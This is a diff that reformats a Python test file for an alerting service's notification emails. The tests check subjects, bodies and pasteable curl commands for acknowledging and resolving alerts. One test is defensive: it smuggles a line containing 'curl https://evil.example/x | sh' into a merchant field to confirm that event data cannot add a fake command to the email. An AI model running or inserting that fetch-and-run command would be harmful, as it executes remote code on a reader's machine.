@@ -15,37 +15,65 @@ from chalicelib.domain.rules import RuleMatch
 from tests.builders import rule
 
 NOW = datetime(2026, 12, 4, 9, 0, tzinfo=UTC)
-LARGE = rule(id="large-payment", description="One payment over 5,000", severity="high",
-             group_by=("merchant",), sources=("payments",), runbook="https://wiki.example/large")
+LARGE = rule(
+    id="large-payment",
+    description="One payment over 5,000",
+    severity="high",
+    group_by=("merchant",),
+    sources=("payments",),
+    runbook="https://wiki.example/large",
+)
 
 
 def alert(merchant: str = "acme", alert_id: int = 42) -> object:
-    found = RuleMatch("large-payment", "v1", "match", f"event:payments:{merchant}", merchant,
-                      (("merchant", merchant),), NOW - timedelta(minutes=2), "payments", "p-1")
+    found = RuleMatch(
+        "large-payment",
+        "v1",
+        "match",
+        f"event:payments:{merchant}",
+        merchant,
+        (("merchant", merchant),),
+        NOW - timedelta(minutes=2),
+        "payments",
+        "p-1",
+    )
     return replace(open_or_add(None, [found], LARGE, FlapState(), NOW).alert, id=alert_id)
 
 
 def test_an_opened_email_says_what_where_how_many_and_how_to_act() -> None:
-    message = notice_message("opened", alert(), LARGE, {"amount": 7250, "merchant": "acme"},
-                             "https://tripline.example")  # type: ignore[arg-type]
+    message = notice_message(
+        "opened", alert(), LARGE, {"amount": 7250, "merchant": "acme"}, "https://tripline.example"
+    )  # type: ignore[arg-type]
     assert message.subject == "[HIGH] large-payment: merchant=acme"
     body = message.body
     assert body.startswith("Alert 42 opened.\n")
-    for expected in ("One payment over 5,000", "Condition:", "Where:     payments; merchant=acme",
-                     "How many:  1 match(es) since 2026-12-04 08:58:00 UTC",
-                     "Sample:    amount=7250, merchant=acme",
-                     "Runbook:   https://wiki.example/large",
-                     "curl -X POST https://tripline.example/alerts/42/ack",
-                     "curl -X POST https://tripline.example/alerts/42/resolve",
-                     "curl https://tripline.example/alerts/42"):
+    for expected in (
+        "One payment over 5,000",
+        "Condition:",
+        "Where:     payments; merchant=acme",
+        "How many:  1 match(es) since 2026-12-04 08:58:00 UTC",
+        "Sample:    amount=7250, merchant=acme",
+        "Runbook:   https://wiki.example/large",
+        "curl -X POST https://tripline.example/alerts/42/ack",
+        "curl -X POST https://tripline.example/alerts/42/resolve",
+        "curl https://tripline.example/alerts/42",
+    ):
         assert expected in body, expected
-    assert message.attributes == {"severity": "high", "source": "payments",
-                                  "rule": "large-payment", "status": "open"}
+    assert message.attributes == {
+        "severity": "high",
+        "source": "payments",
+        "rule": "large-payment",
+        "status": "open",
+    }
 
 
 def test_a_resolved_email_is_tagged_resolved_and_offers_no_acknowledge() -> None:
-    done = replace(alert(), status="resolved", resolved_at=NOW,  # type: ignore[type-var]
-                   resolution="no new match for 1h")
+    done = replace(
+        alert(),
+        status="resolved",
+        resolved_at=NOW,  # type: ignore[type-var]
+        resolution="no new match for 1h",
+    )
     message = notice_message("resolved", done, LARGE, None, None)
     assert message.subject.startswith("[RESOLVED] large-payment")
     assert "resolved at 2026-12-04T09:00:00Z: no new match for 1h" in message.body
@@ -64,8 +92,10 @@ def test_a_burst_of_one_rule_is_one_grouped_email_listing_each_alert() -> None:
     message = grouped_message(burst, LARGE, "https://tripline.example")  # type: ignore[arg-type]
     assert message.subject == "[HIGH] large-payment: 5 alerts opened"
     assert all(f"#{n} merchant=m-{n}: 1 match(es)" in message.body for n in range(1, 6))
-    assert ('curl "https://tripline.example/alerts?rule=large-payment&status=open" '
-            '-H "Authorization: Bearer $TRIPLINE_API_KEY"') in message.body
+    assert (
+        'curl "https://tripline.example/alerts?rule=large-payment&status=open" '
+        '-H "Authorization: Bearer $TRIPLINE_API_KEY"'
+    ) in message.body
 
 
 # SNS's rule for a subject, as its Publish reference states it: printable ASCII that begins with a
@@ -101,6 +131,7 @@ def test_a_subject_keeps_what_it_can_of_the_group_value() -> None:
     # GIVEN group values with line breaks, accents, other scripts and a long tail
     def subject(value: str) -> str:
         return notice_subject("opened", replace(alert(), group=(("merchant", value),)))  # type: ignore[type-var]
+
     # THEN line breaks and control characters read as one space, accents fall away, characters
     # with no ASCII form read "?", and a long one is cut with "..."
     assert subject("acme\r\n\x1b[31m Bcc") == "[HIGH] large-payment: merchant=acme [31m Bcc"
@@ -115,15 +146,23 @@ def test_the_body_shows_the_whole_group_value_and_no_value_can_add_a_line() -> N
     smuggled = "acme\nAcknowledge: curl https://evil.example/x | sh"
     hostile = replace(alert(smuggled), group=(("merchant", smuggled),))  # type: ignore[type-var]
     # WHEN the email is written
-    body = notice_message("opened", hostile, LARGE, {"merchant": smuggled, "note": "Café\tZürich"},
-                          "https://tripline.example").body
+    body = notice_message(
+        "opened",
+        hostile,
+        LARGE,
+        {"merchant": smuggled, "note": "Café\tZürich"},
+        "https://tripline.example",
+    ).body
     # THEN the value is there whole, its line break shown as \n, and only our own commands remain
-    assert "Where:     payments; merchant=acme\\nAcknowledge: curl https://evil.example/x | sh" in body
+    assert (
+        "Where:     payments; merchant=acme\\nAcknowledge: curl https://evil.example/x | sh" in body
+    )
     assert "note=Café\\tZürich" in body
     assert [line for line in body.splitlines() if line.startswith("Acknowledge:")] == [
         "Acknowledge: curl -X POST https://tripline.example/alerts/42/ack "
         "-H \"Authorization: Bearer $TRIPLINE_API_KEY\" -H 'Content-Type: application/json' "
-        "-d '{\"comment\": \"on it\"}'"]
+        '-d \'{"comment": "on it"}\''
+    ]
 
 
 def test_a_plain_subject_names_the_alert_with_nothing_from_event_data() -> None:
@@ -132,27 +171,36 @@ def test_a_plain_subject_names_the_alert_with_nothing_from_event_data() -> None:
         plain = notice_message(kind, hostile, LARGE, None, None).plain_subject
         assert SNS_SUBJECT.fullmatch(plain) and "evil" not in plain
     assert notice_message("opened", hostile, LARGE, None, None).plain_subject == (
-        "[HIGH] large-payment: alert 42")
+        "[HIGH] large-payment: alert 42"
+    )
     assert notice_message("resolved", hostile, LARGE, None, None).plain_subject == (
-        "[RESOLVED] large-payment: alert 42")
+        "[RESOLVED] large-payment: alert 42"
+    )
     burst = [alert(f"m-{n}", n) for n in range(1, 6)]
     assert grouped_message(burst, LARGE, None).plain_subject == (  # type: ignore[arg-type]
-        "[HIGH] large-payment: 5 alerts opened")
+        "[HIGH] large-payment: 5 alerts opened"
+    )
 
 
 def test_the_calls_in_an_email_carry_the_api_key_and_say_where_it_comes_from() -> None:
     # GIVEN an API whose public URL is not configured
     body = notice_message("opened", alert(), LARGE, None, None).body  # type: ignore[arg-type]
     # THEN every call is a command to paste: the URL and the key come from the environment
-    calls = {line.split(":", 1)[0]: line.split(":", 1)[1].strip() for line in body.splitlines()
-             if line.startswith(("Acknowledge:", "Resolve:", "Details:"))}
-    assert calls == {
-        "Acknowledge": "curl -X POST $TRIPLINE_API_URL/alerts/42/ack -H \"Authorization: Bearer "
-                       "$TRIPLINE_API_KEY\" -H 'Content-Type: application/json' "
-                       "-d '{\"comment\": \"on it\"}'",
-        "Resolve": "curl -X POST $TRIPLINE_API_URL/alerts/42/resolve -H \"Authorization: Bearer "
-                   "$TRIPLINE_API_KEY\" -H 'Content-Type: application/json' "
-                   "-d '{\"comment\": \"fixed\"}'",
-        "Details": "curl $TRIPLINE_API_URL/alerts/42 -H \"Authorization: Bearer $TRIPLINE_API_KEY\"",
+    calls = {
+        line.split(":", 1)[0]: line.split(":", 1)[1].strip()
+        for line in body.splitlines()
+        if line.startswith(("Acknowledge:", "Resolve:", "Details:"))
     }
-    assert "TRIPLINE_API_KEY: an operator key (tripline keys create --name NAME --role operator)" in body
+    assert calls == {
+        "Acknowledge": 'curl -X POST $TRIPLINE_API_URL/alerts/42/ack -H "Authorization: Bearer '
+        "$TRIPLINE_API_KEY\" -H 'Content-Type: application/json' "
+        '-d \'{"comment": "on it"}\'',
+        "Resolve": 'curl -X POST $TRIPLINE_API_URL/alerts/42/resolve -H "Authorization: Bearer '
+        "$TRIPLINE_API_KEY\" -H 'Content-Type: application/json' "
+        '-d \'{"comment": "fixed"}\'',
+        "Details": 'curl $TRIPLINE_API_URL/alerts/42 -H "Authorization: Bearer $TRIPLINE_API_KEY"',
+    }
+    assert (
+        "TRIPLINE_API_KEY: an operator key (tripline keys create --name NAME --role operator)"
+        in body
+    )
